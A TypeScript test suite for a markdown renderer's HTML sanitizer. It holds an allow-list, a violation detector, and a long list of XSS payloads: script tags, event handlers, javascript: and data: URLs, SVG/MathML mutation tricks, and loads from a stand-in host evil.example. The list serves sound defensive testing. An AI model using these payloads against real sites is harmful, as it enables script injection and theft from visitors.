import type { Element, Root } from 'hast'
import * as fc from 'fast-check'
import { visit } from 'unist-util-visit'
import { expect, test } from 'vitest'
import { render } from '#content/testing/render.ts'
import { parseHtml } from '#content/markdown/parse-html.ts'

const htmlTags = new Set(
  (
    'a abbr aside b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer ' +
    'h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strong sub ' +
    'summary sup table tbody td tfoot th thead time tr u ul var wbr'
  ).split(' '),
)
const mathTags = new Set(
  (
    'math semantics annotation menclose merror mfrac mi mn mo mover mpadded mphantom mroot mrow ms mspace msqrt mstyle msub ' +
    'msubsup msup mtable mtd mtext mtr munder munderover'
  ).split(' '),
)
const attributes = new Set(
  (
    'align alt ariaDescribedBy ariaLabel checked className colSpan dataFootnoteBackref dataFootnoteRef dataFootnotes dataKind ' +
    'dataLanguage dataMermaid dataNumber dataThumbhash dateTime decoding dir disabled height href id lang loading name open ' +
    'referrerPolicy rel reversed role rowSpan scope sizes src srcSet start tabIndex target title type value width'
  ).split(' '),
)
const classes =
  /^(?:anchor|callout|callout-title|code-block|code-title|contains-task-list|data-footnote-backref|embed-card|external|footnotes|formula|formula-end|formula-source|highlighted|katex|line|mermaid|shiki|sr-only|table-scroll|task-list-item|tok-[a-z-]+)$/

/** Everything in a node, parsed by the HTML standard, that an article must not contain. */
function violations(html: string): string[] {
  const found: string[] = []
  const tree: Root = parseHtml(html)
  visit(tree, (node) => {
    if (node.type === 'root' || node.type === 'text') return
    if (node.type !== 'element') found.push(`node ${node.type}`)
    else found.push(...violationsOf(node))
  })
  return found
}

function violationsOf({ tagName, properties }: Element): string[] {
  if (mathTags.has(tagName)) {
    return Object.keys(properties).flatMap((name) =>
      /^(?:on|style|href|src|xlink|id$|class)/i.test(name) ? [`${tagName} ${name}`] : [],
    )
  }
  if (!htmlTags.has(tagName)) return [`element ${tagName}`]
  return Object.entries(properties).flatMap(([name, value]) => {
    if (!attributes.has(name)) return [`${tagName} ${name}`]
    if (['id', 'name', 'ariaDescribedBy'].includes(name) && !String(value).startsWith('h-'))
      return [`${tagName} ${name}=${String(value)}`]
    if (name === 'className' && Array.isArray(value) && !value.every((part) => classes.test(String(part))))
      return [`class ${value.join(' ')}`]
    if (['href', 'src'].includes(name) && !isSafeAddress(String(value)))
      return [`${tagName} ${name}=${String(value)}`]
    return []
  })
}

function isSafeAddress(address: string): boolean {
  return (
    URL.canParse(address, 'https://own.invalid') &&
    ['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(address, 'https://own.invalid').protocol)
  )
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)" onload=alert(2)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror&#61;alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=x srcset="javascript:alert(1) 1x">',
  '<img name=cookie><img id=__proto__><img name=getElementById>',
  '<form id=x><input name=parentNode><input name=attributes></form>',
  '<a id=location href=//evil.example>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1) src=x></video>',
  '<audio autoplay onplay=alert(1) src=//evil.example/a.mp3>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>x</html>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&Tab;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href=x target=_self ping=//evil.example onclick=alert(1)>x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](&#x6a;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](a.png"onerror="alert(1))',
  '![x" onerror="alert(1)](a.png)',
  '![x](a.png \'" onerror="alert(1)\')',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js title="<img src=x onerror=alert(1)>"\nx\n```',
  '```mermaid\n</pre><script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '## x {#"onclick="alert(1)}',
  '> [!NOTE] <img src=x onerror=alert(1)>\n> x',
  '|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\text{</annotation><script>alert(1)</script>}$',
  '$$\n\\unicode{<img src=x onerror=alert(1)>}\n$$',
  '$\\style{x}{y}\\class{x}{y}\\cssId{x}{y}$',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<div data-x="1" aria-hidden=true class="fixed modal" contenteditable popover id=x tabindex=1>x</div>',
  '<a href=x class="external anchor shiki" role=button>x</a>',
  '<code class="language-x onclick=alert(1)">x</code>',
  '<p align="x" onclick=alert(1)>x</p>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<portal src=//evil.example></portal><fencedframe></fencedframe>',
]

test.each(payloads)('%j is reduced to allowed HTML', async (payload) => {
  for (const markdown of [payload, `文字 ${payload} 文字`, `- ${payload}\n\n> ${payload}`]) {
    const { html, toc } = await render(markdown)
    expect(violations(html)).toEqual([])
    expect(toc.every(({ id }) => id.startsWith('h-'))).toBe(true)
  }
})

const fragment = fc.oneof(
  fc.constantFrom(...payloads),
  fc.stringMatching(/^[<>&"'=/!\-[\](){}#*_`$~|:;\n\ta-d]{1,30}$/),
  fc.constantFrom(
    '<div>',
    '</div>',
    '<p>',
    '<svg>',
    '</svg>',
    '<math>',
    '</math>',
    '<style>',
    '<!--',
    '-->',
    '<table>',
    '<td>',
    '\n\n',
    '> ',
    '- ',
  ),
)

test('any mixture of markup is reduced to allowed HTML', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fragment, { maxLength: 8 }), async (parts) => {
      const { html } = await render(parts.join(''))
      expect(violations(html)).toEqual([])
    }),
    { numRuns: 400 },
  )
})

test('the detector finds forbidden markup', () => {
  const seen = [
    '<script>',
    '<p style="x">',
    '<a href="javascript:x">',
    '<p onclick=x>',
    '<p id=x>',
    '<p class=x>',
    '<svg>',
    '<math href=x>',
  ].map(violations)
  expect(seen.every((found) => found.length > 0)).toBe(true)
})
